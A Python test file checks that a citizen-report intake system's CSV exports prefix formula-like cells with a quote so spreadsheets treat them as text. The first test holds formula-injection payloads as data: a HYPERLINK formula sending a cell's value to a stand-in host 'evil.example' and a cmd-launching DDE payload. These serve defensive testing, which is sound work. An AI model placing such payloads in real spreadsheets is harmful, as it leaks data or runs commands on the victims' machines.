"""The CSV exports (staff queue, open data) as a spreadsheet reads them: a citizen's text that
starts like a formula stays text."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Sequence
from typing import Any

from intake.entrypoints.formats import csv_response


async def chunks(*rows: Sequence[object]) -> AsyncIterator[Sequence[Any]]:
    yield list(rows)


async def exported(*rows: Sequence[object]) -> list[list[str]]:
    response = csv_response("t.csv", ["id", "description", "lat"], chunks(*rows), list)
    body = b"".join([bytes(part) async for part in response.body_iterator])  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def test_text_that_would_start_a_formula_gets_a_leading_quote() -> None:
    formulas = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    rows = await exported(*[[n, text, 51.3] for n, text in enumerate(formulas)])
    assert [r[1] for r in rows[1:]] == ["'" + text for text in formulas]


async def test_other_cells_pass_unchanged() -> None:
    rows = await exported(
        [1, "Schlagloch, ca. 20 cm = tief", -12.5],
        [2, "", 0],
        [3, "„Straße“ – 2 Löcher", 51.34],
    )
    assert rows == [
        ["id", "description", "lat"],
        ["1", "Schlagloch, ca. 20 cm = tief", "-12.5"],
        ["2", "", "0"],
        ["3", "„Straße“ – 2 Löcher", "51.34"],
    ]
